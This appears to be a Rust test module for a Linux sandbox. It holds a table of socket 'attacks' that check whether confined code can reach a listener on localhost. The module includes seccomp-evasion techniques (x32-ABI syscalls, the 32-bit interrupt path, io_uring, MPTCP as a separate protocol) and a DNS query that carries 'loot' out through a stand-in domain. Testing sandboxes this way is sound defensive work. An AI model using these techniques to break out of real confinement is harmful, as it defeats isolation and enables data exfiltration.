//! Attacks over sockets of every kind. Whoever is attacked answers what it hears, so
//! that `works` means that somebody outside has heard it.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr as UnixAddress, UnixDatagram, UnixListener, UnixStream};
use std::time::Duration;

use rustix::net::{AddressFamily, SocketFlags, SocketType, socket_with, socketpair};

use super::sys;
use super::words::{Attack, Words};

pub const ATTACKS: &[(&str, Attack)] = &[
    ("tcp", tcp),
    ("tcp6", tcp6),
    ("tcp-fast-open", tcp_fast_open),
    ("multipath-tcp", multipath_tcp),
    ("tcp-listen", tcp_listen),
    ("udp", udp),
    ("udp6", udp6),
    ("dns", dns),
    ("unix", unix),
    ("unix-datagram", unix_datagram),
    ("unix-listen", unix_listen),
    ("datagram-pair", datagram_pair),
    ("abstract", abstract_name),
    ("abstract-listen", abstract_listen),
    ("socket", socket),
    ("socket-by-interrupt", socket_by_interrupt),
    ("socket-by-x32", socket_by_x32),
    ("io-uring", io_uring),
];

const PATIENCE: Duration = Duration::from_secs(10);
const WORD: &[u8] = b"loot";
const INET: usize = 2;
const STREAM: usize = 1;

fn converse(mut stream: impl Read + Write) -> io::Result<String> {
    stream.write_all(WORD)?;
    let mut answer = [0; WORD.len()];
    stream.read_exact(&mut answer)?;
    Ok("somebody outside answered".to_owned())
}

fn tcp_to(address: SocketAddr) -> io::Result<String> {
    let stream = TcpStream::connect(address)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    converse(stream)
}

fn tcp(words: &Words) -> io::Result<String> {
    tcp_to((Ipv4Addr::LOCALHOST, words.number(0)).into())
}

fn tcp6(words: &Words) -> io::Result<String> {
    tcp_to((Ipv6Addr::LOCALHOST, words.number(0)).into())
}

/// The address of a loopback port as the system reads it.
fn address_of(port: u16) -> [u8; 16] {
    let mut address = [0; 16];
    address[..2].copy_from_slice(&2_u16.to_ne_bytes());
    address[2..4].copy_from_slice(&port.to_be_bytes());
    address[4..8].copy_from_slice(&[127, 0, 0, 1]);
    address
}

/// Connects without `connect`: the first bytes go out with the opening.
fn tcp_fast_open(words: &Words) -> io::Result<String> {
    const FAST_OPEN: usize = 0x2000_0000;
    let socket = socket_with(
        AddressFamily::INET,
        SocketType::STREAM,
        SocketFlags::CLOEXEC,
        None,
    )?;
    let mut address = address_of(words.number(0));
    let mut text = *b"loot";
    let number = number_of(&socket)?;
    let sent = [
        number,
        sys::bytes(&mut text),
        text.len(),
        FAST_OPEN,
        sys::bytes(&mut address),
        address.len(),
    ];
    sys::call(libc::SYS_sendto, &sent)?;
    let mut stream = TcpStream::from(socket);
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.read_exact(&mut text)?;
    Ok("somebody outside answered a fast opening".to_owned())
}

/// A protocol of its own as far as filters by protocol are concerned.
fn multipath_tcp(words: &Words) -> io::Result<String> {
    const MPTCP: usize = 262;
    let number = sys::call(libc::SYS_socket, &[INET, STREAM, MPTCP])?;
    let socket = sys::owned(number)?;
    let mut address = address_of(words.number(0));
    sys::call(
        libc::SYS_connect,
        &[number, sys::bytes(&mut address), address.len()],
    )?;
    converse(TcpStream::from(socket))
}

fn tcp_listen(_: &Words) -> io::Result<String> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    Ok(format!("listens on {}", listener.local_addr()?))
}

fn udp_to(own: SocketAddr, other: SocketAddr, word: &[u8]) -> io::Result<String> {
    let socket = UdpSocket::bind(own)?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.send_to(word, other)?;
    let (count, _) = socket.recv_from(&mut [0; 512])?;
    Ok(format!("{count} bytes came back"))
}

fn udp(words: &Words) -> io::Result<String> {
    let local = Ipv4Addr::LOCALHOST;
    udp_to((local, 0).into(), (local, words.number(0)).into(), WORD)
}

fn udp6(words: &Words) -> io::Result<String> {
    let local = Ipv6Addr::LOCALHOST;
    udp_to((local, 0).into(), (local, words.number(0)).into(), WORD)
}

/// Carries a secret out in the name that it asks for.
fn dns(words: &Words) -> io::Result<String> {
    let mut question = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["loot", "example", "com"] {
        question.push(u8::try_from(label.len()).map_err(io::Error::other)?);
        question.extend(label.bytes());
    }
    question.extend([0, 0, 1, 0, 1]);
    let local = Ipv4Addr::LOCALHOST;
    udp_to(
        (local, 0).into(),
        (local, words.number(0)).into(),
        &question,
    )
}

fn unix(words: &Words) -> io::Result<String> {
    let stream = UnixStream::connect(words.path(0))?;
    stream.set_read_timeout(Some(PATIENCE))?;
    converse(stream)
}

fn unix_datagram(words: &Words) -> io::Result<String> {
    UnixDatagram::unbound()?.send_to(WORD, words.path(0))?;
    Ok(format!("sent to {}", words.text(0)))
}

fn unix_listen(_: &Words) -> io::Result<String> {
    UnixListener::bind("listener")?;
    Ok("listens in the working directory".to_owned())
}

/// A pair needs no `socket`, and one end of it can send anywhere.
fn datagram_pair(words: &Words) -> io::Result<String> {
    let (one, _other) = socketpair(
        AddressFamily::UNIX,
        SocketType::DGRAM,
        SocketFlags::CLOEXEC,
        None,
    )?;
    UnixDatagram::from(one).send_to(WORD, words.path(0))?;
    Ok(format!("one of a pair sent to {}", words.text(0)))
}

fn abstract_name(words: &Words) -> io::Result<String> {
    let address = UnixAddress::from_abstract_name(words.text(0))?;
    let stream = UnixStream::connect_addr(&address)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    converse(stream)
}

/// Takes a name that others would connect to.
fn abstract_listen(words: &Words) -> io::Result<String> {
    let name = format!("{}-{}", words.text(0), std::process::id());
    UnixListener::bind_addr(&UnixAddress::from_abstract_name(name)?)?;
    Ok("listens under an abstract name".to_owned())
}

/// A socket of this family, type and protocol.
fn socket(words: &Words) -> io::Result<String> {
    let wanted = [words.number(0), words.number(1), words.number(2)];
    sys::call(libc::SYS_socket, &wanted)?;
    Ok(format!("a socket of family {}", words.text(0)))
}

fn socket_by_interrupt(_: &Words) -> io::Result<String> {
    sys::socket_by_interrupt()?;
    Ok("a socket by the 32-bit door".to_owned())
}

fn socket_by_x32(_: &Words) -> io::Result<String> {
    const X32: libc::c_long = 0x4000_0000;
    sys::call(X32 | libc::SYS_socket, &[INET, STREAM, 0])?;
    Ok("a socket by the x32 door".to_owned())
}

/// A ring carries out calls that no filter sees.
fn io_uring(_: &Words) -> io::Result<String> {
    let mut parameters = [0_u64; 15];
    sys::call(libc::SYS_io_uring_setup, &[4, sys::place(&mut parameters)])?;
    Ok("a ring for unseen calls".to_owned())
}

fn number_of(socket: &impl AsRawFd) -> io::Result<usize> {
    usize::try_from(socket.as_raw_fd()).map_err(io::Error::other)
}
